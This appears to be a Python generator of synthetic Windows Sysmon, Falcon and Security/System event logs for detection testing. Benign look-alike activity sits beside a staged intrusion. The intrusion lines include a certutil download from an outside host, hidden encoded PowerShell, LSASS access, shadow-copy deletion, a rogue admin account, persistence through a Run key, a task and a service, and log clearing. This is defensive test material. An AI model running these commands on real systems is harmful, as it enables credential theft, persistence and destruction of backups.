"""Windows: Sysmon and the Falcon sensor on a workstation, the Security and System logs."""
import base64
from datetime import timedelta

from generate import MS, OS, PROGRAMS, CMD, POWERSHELL, Machine, xml_event

from .common import OFFICE, PEOPLE, STRANGERS

WORKSTATION, CONTROLLER, SERVER = "ws-23.corp.example", "dc-01.corp.example", "srv-04.corp.example"
SYSTEM32 = "C:\\Windows\\System32\\"
LSASS = SYSTEM32 + "lsass.exe"
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")


def program(image, user="jdoe", parent=CMD, original=None):
    name = image.rsplit("\\", 1)[1]
    return (image, "10.0.19041.4355", name, OS, MS, original or name, "System" if user == "SYSTEM" else "High", user, parent, [name])


def encoded(command):
    return base64.b64encode(command.encode("utf-16-le")).decode()


# -- the workstation

def read_lsass(machine, image, access, target=LSASS):
    machine.sysmon_event(10, 3, [
        ("UtcTime", machine.utc()), ("SourceProcessGUID", machine.guid()), ("SourceProcessId", 4 * machine.dice.number(1000, 6000)),
        ("SourceThreadId", machine.dice.number(1000, 9000)), ("SourceImage", image), ("TargetProcessGUID", machine.guid()), ("TargetProcessId", 684),
        ("TargetImage", target), ("GrantedAccess", access), ("CallTrace", SYSTEM32 + "ntdll.dll+9d4c4|" + SYSTEM32 + "KERNELBASE.dll+2c13e"),
        ("SourceUser", machine.account("jdoe")), ("TargetUser", machine.account("SYSTEM"))])


def set_value(machine, image, target, details):
    machine.sysmon_event(13, 2, [
        ("EventType", "SetValue"), ("UtcTime", machine.utc()), ("ProcessGuid", machine.guid()), ("ProcessId", 4 * machine.dice.number(1000, 6000)),
        ("Image", image), ("TargetObject", target), ("Details", details), ("User", machine.account("jdoe"))])


CHAT = r"C:\Users\jdoe\AppData\Local\Chat\chat.exe"
RUN = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


def office_work(machine):
    """Things that look a little like the attacks, and are none."""
    lines = [(POWERSHELL, r"powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\encode-report.ps1"),
             (POWERSHELL, r"powershell.exe -Command Get-Content C:\Scripts\hosts.txt -Encoding utf8"),
             (SYSTEM32 + "certutil.exe", "certutil.exe -store My"),
             (SYSTEM32 + "certutil.exe", r"certutil.exe -hashfile C:\Users\jdoe\Downloads\planner-2.4.msi SHA256"),
             (SYSTEM32 + "vssadmin.exe", "vssadmin.exe list shadows"),
             (SYSTEM32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
             (SYSTEM32 + "rundll32.exe", r'"C:\Windows\System32\rundll32.exe" printui.dll,PrintUIEntry /in /n \\print-01.corp.example\floor2'),
             (SYSTEM32 + "certutil.exe", "certutil.exe -url http://pki.corp.example/ca.crl"),
             (SYSTEM32 + "certutil.exe", "certutil.exe -urlcache * delete"),
             (SYSTEM32 + "findstr.exe", r"findstr.exe urlcache C:\Scripts\http-proxy.txt"),
             (SYSTEM32 + "findstr.exe", r'findstr.exe /i "delete shadows" C:\Scripts\runbook.txt'),
             (SYSTEM32 + "findstr.exe", r'findstr.exe /i "shadowcopy delete" C:\Scripts\runbook.txt'),
             (SYSTEM32 + "wbem\\WMIC.exe", "wmic.exe product where name='Planner' delete"),
             (CMD, "cmd.exe /c where rundll32.exe"),
             (SYSTEM32 + "whoami.exe", "whoami.exe")]
    for image, line in lines:
        machine.ordinary(PROGRAMS)
        process = machine.start(program(image), line=line)
        if image.endswith("rundll32.exe"):
            machine.end(process)
    host = machine.start(program(SYSTEM32 + "wbem\\WmiPrvSE.exe", "SYSTEM", SYSTEM32 + "svchost.exe"), line=SYSTEM32 + "wbem\\wmiprvse.exe -secured -Embedding")
    machine.wait(30)
    machine.start(program(SYSTEM32 + "msiexec.exe", "SYSTEM"), line=r"C:\Windows\System32\msiexec.exe /fa {7D1C0A55-6C6F-4E0B-9B37-2C44A7E0B1F3}", parent=host)
    machine.wait(30)
    read_lsass(machine, SYSTEM32 + "svchost.exe", "0x1400")
    machine.wait(30)
    read_lsass(machine, r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0\MsMpEng.exe", "0x1010")
    machine.wait(30)
    read_lsass(machine, CHAT, "0x1000")
    machine.wait(30)
    read_lsass(machine, CHAT, "0x1010", target=r"C:\Windows\explorer.exe")
    machine.wait(30)
    set_value(machine, CHAT, r"HKU\S-1-5-21-1085031214-1563985344-725345543-1117\SOFTWARE\Chat\InstallPath", CHAT)
    machine.wait(30)
    editor = machine.start(program(r"C:\Program Files\Editor\editor.exe", parent=r"C:\Windows\explorer.exe"), line="editor.exe")
    for _ in range(4):
        machine.wait(30)
        machine.start(program(CMD, original="Cmd.Exe"), line="cmd.exe /d /c build.cmd", parent=editor)
    machine.wait(30)
    set_value(machine, SYSTEM32 + "svchost.exe", "HKLM\\" + RUN + "\\SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe")
    return host


def intrude(machine, host):
    """The intrusion: a document, a script, a download, and what comes of it."""
    word = machine.start(program(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", original="WinWord.exe", parent=r"C:\Windows\explorer.exe"),
                         line=r'WINWORD.EXE /n "C:\Users\jdoe\Downloads\invoice.docm"')
    machine.wait(20)
    shell = machine.start(program(POWERSHELL), line="powershell.exe -NoP -W Hidden -EncodedCommand " + encoded("Write-Output 'starter content'; Start-Sleep 3"), parent=word)
    machine.wait(20)
    machine.start(program(SYSTEM32 + "certutil.exe"), line=rf"certutil.exe -urlcache -split -f http://{STRANGERS[0]}/a.txt C:\Users\Public\upd.exe", parent=shell)
    machine.wait(20)
    machine.start(program(r"C:\Users\Public\cu.exe", original="CertUtil.exe"), line=rf"C:\Users\Public\cu.exe /verifyctl /f http://{STRANGERS[0]}/b.txt", parent=shell)
    machine.wait(20)
    set_value(machine, POWERSHELL, r"HKU\S-1-5-21-1085031214-1563985344-725345543-1117" + "\\" + RUN + "\\Updater", r"C:\Users\jdoe\AppData\Roaming\upd.exe /q")
    machine.wait(20)
    read_lsass(machine, r"C:\Users\Public\upd.exe", "0x1010")
    machine.wait(20)
    machine.start(program(POWERSHELL, "SYSTEM"), line="powershell.exe -enc " + encoded("Get-Service"), parent=host)
    machine.wait(20)
    machine.start(program(CMD, "SYSTEM", original="Cmd.Exe"), line=r"cmd.exe /Q /c whoami 1> C:\Windows\Temp\o.txt", parent=host)
    machine.wait(20)
    machine.start(program(SYSTEM32 + "rundll32.exe"), line=SYSTEM32 + "rundll32.exe", parent=shell)
    machine.wait(20)
    machine.start(program(SYSTEM32 + "vssadmin.exe", "SYSTEM"), line="vssadmin.exe delete shadows /all /quiet", parent=shell)
    machine.wait(20)
    machine.start(program(SYSTEM32 + "wbem\\WMIC.exe", "SYSTEM", original="wmic.exe"), line="wmic.exe shadowcopy delete /nointeractive", parent=shell)


def workstation(log):
    """A working day of ws-23; the attack is seen by Sysmon and by the Falcon sensor alike."""
    machine = Machine(230 + log.attack, log.at("08:05:00"), WORKSTATION)
    for _ in range(25):
        machine.ordinary(PROGRAMS)
    host = office_work(machine)
    if log.attack:
        intrude(machine, host)
    for _ in range(20):
        machine.ordinary(PROGRAMS)
    return machine


def sysmon(log):
    return workstation(log).sysmon


def falcon(log):
    return workstation(log).falcon


# -- the Security and System logs

def audit(log, time, event, task, data, host, success=True, version=0):
    log.add(time, xml_event(*SECURITY, event, version, task, 0, "0x8020000000000000" if success else "0x8010000000000000", time, 55000 + len(log.items), 660, 700,
                            "Security", "", data, level=0, host=host))


def subject(name):
    return [("SubjectUserSid", "S-1-5-21-1085031214-1563985344-725345543-1105"), ("SubjectUserName", name), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x7c1f2")]


def logon(log, time, user, source, success=True, host=SERVER):
    target = [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0"),
              ("TargetUserSid", "S-1-5-21-1085031214-1563985344-725345543-1201" if success else "S-1-0-0"), ("TargetUserName", user), ("TargetDomainName", "CORP")]
    how = [("LogonType", 3), ("LogonProcessName", "NtLmSsp "), ("AuthenticationPackageName", "NTLM"), ("WorkstationName", "WS-" + source.rsplit(".", 1)[1] if source.startswith("10.") else "DESKTOP-7QX"), ("IpAddress", source), ("IpPort", 50000 + len(log.items))]
    if success:
        audit(log, time, 4624, 12544, target + [("TargetLogonId", "0x%x" % (0x90000 + len(log.items)))] + how, host, version=2)
    else:
        audit(log, time, 4625, 12544, target + [("Status", "0xc000006d"), ("FailureReason", "%%2313"), ("SubStatus", "0xc000006a")] + how, host, success=False)


def ticket(log, time, user, service, cipher, source, status="0x0"):
    audit(log, time, 4769, 14337, [
        ("TargetUserName", user + "@CORP.EXAMPLE"), ("TargetDomainName", "CORP.EXAMPLE"), ("ServiceName", service), ("ServiceSid", "S-1-5-21-1085031214-1563985344-725345543-1300"),
        ("TicketOptions", "0x40810000"), ("TicketEncryptionType", cipher), ("IpAddress", "::ffff:" + source), ("IpPort", 50000 + len(log.items)), ("Status", status),
        ("LogonGuid", "{2B1C5A10-0001-4F00-9A00-0000000000%02X}" % (len(log.items) % 256)), ("TransmittedServices", "-")], CONTROLLER)


def new_account(log, time, user, by, host):
    audit(log, time, 4720, 13824, [("TargetUserName", user), ("TargetDomainName", host.split(".")[0].upper()), ("TargetSid", "S-1-5-21-9-9-9-1008")] + subject(by) +
          [("PrivilegeList", "-"), ("SamAccountName", user)], host)


def into_group(log, time, group, sid, member_sid, by, host):
    audit(log, time, 4732, 13826, [("MemberName", "-"), ("MemberSid", member_sid), ("TargetUserName", group), ("TargetDomainName", "Builtin"), ("TargetSid", sid)] +
          subject(by) + [("PrivilegeList", "-")], host)


def task(log, time, name, command, by, host, event=4698):
    content = ("<Task version=\"1.2\"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>" + command + "</Command></Exec></Actions></Task>")
    audit(log, time, event, 12804, subject(by) + [("TaskName", name), ("TaskContent", content)], host)


def security(log):
    """The Security logs of a controller and a server."""
    for n, time in enumerate(log.times(30)):
        user = PEOPLE[n % len(PEOPLE)]
        logon(log, time, user, OFFICE[user])
        ticket(log, time + timedelta(seconds=1), user, log.dice.pick(["fs-01$", "svc-print", "svc-wiki"]), "0x12", OFFICE[user])
    for time in log.times(4):
        user = log.dice.pick(PEOPLE)
        logon(log, time, user, OFFICE[user], success=False)
        logon(log, time + timedelta(seconds=9), user, OFFICE[user])
    ticket(log, log.at("11:20:00"), "cmeier", "old-nas$", "0x17", OFFICE["cmeier"])
    new_account(log, log.at("10:15:00"), "intern07", "helpdesk", CONTROLLER)
    into_group(log, log.at("10:16:00"), "Remote Desktop Users", "S-1-5-32-555", "S-1-5-21-9-9-9-1008", "helpdesk", CONTROLLER)
    task(log, log.at("12:00:00"), r"\Backup\Nightly", r"C:\Program Files\Backup\agent.exe", "helpdesk", SERVER)
    task(log, log.at("12:05:00"), r"\OldUpdater", r"C:\Users\Public\old.exe", "helpdesk", SERVER, event=4699)
    services = ["svc-sql", "svc-web", "svc-backup", "svc-print", "svc-wiki", "svc-mail"]
    for n, service in enumerate(services):
        ticket(log, log.at("12:20:00", 5 * n), "akaya", service, "0x12", OFFICE["akaya"])
        ticket(log, log.at("12:40:00", 5 * n), "bnowak", service, "0x17", OFFICE["bnowak"], status="0xe")
    ticket(log, log.at("12:50:00"), "cmeier", "svc-scan", "0x17", OFFICE["cmeier"])
    if not log.attack:
        return log.lines()
    for n in range(14):
        logon(log, log.at("13:02:00", 7 * n), "svc-backup", STRANGERS[0], success=False)
    logon(log, log.at("13:04:05"), "svc-backup", STRANGERS[0])
    new_account(log, log.at("13:10:00"), "support_388", "svc-backup", SERVER)
    into_group(log, log.at("13:10:04"), "Administrators", "S-1-5-32-544", "S-1-5-21-9-9-9-1008", "svc-backup", SERVER)
    task(log, log.at("13:15:00"), r"\Updater", r"C:\Users\Public\upd.exe", "support_388", SERVER)
    for n, service in enumerate(services):
        ticket(log, log.at("13:30:00", 2 * n), "jdoe", service, "0x17", OFFICE["jdoe"])
    time = log.at("14:00:00")
    body = ("<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>" +
            "".join(f"<{k}>{v}</{k}>" for k, v in subject("support_388")) + "</LogFileCleared></UserData>")
    log.add(time, xml_event("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", 1102, 0, 104, 0, "0x4020000000000000", time, 1, 1100, 1104,
                            "Security", "", [], body=body, host=SERVER))
    return log.lines()


def system(log):
    """Services that were installed."""
    def service(time, name, path, host=SERVER, account="LocalSystem"):
        log.add(time, xml_event("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", 7045, 0, 0, 0, "0x8080000000000000", time, 8000 + len(log.items),
                                620, 640, "System", "S-1-5-18", [("ServiceName", name), ("ImagePath", path), ("ServiceType", "user mode service"),
                                                                 ("StartType", "auto start"), ("AccountName", account)], host=host))

    known = [("Backup Agent", r'"C:\Program Files\Backup\agent.exe" --service'), ("Print Helper", r"C:\Program Files (x86)\PrintHelper\ph.exe"),
             ("Edge Update", r'"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc'), ("Inventory", r"C:\Windows\System32\inventory.exe -k")]
    for n, time in enumerate(log.times(24)):
        service(time, *known[n % len(known)], host=f"ws-{10 + n}.corp.example")
    if log.attack:
        service(log.at("13:20:00"), "upd_svc", r"C:\Windows\Temp\upd.exe -k")
        service(log.at("13:21:30"), "Tabula", r"%COMSPEC% /c start C:\Users\Public\t.bat", host="ws-23.corp.example")
    return log.lines()
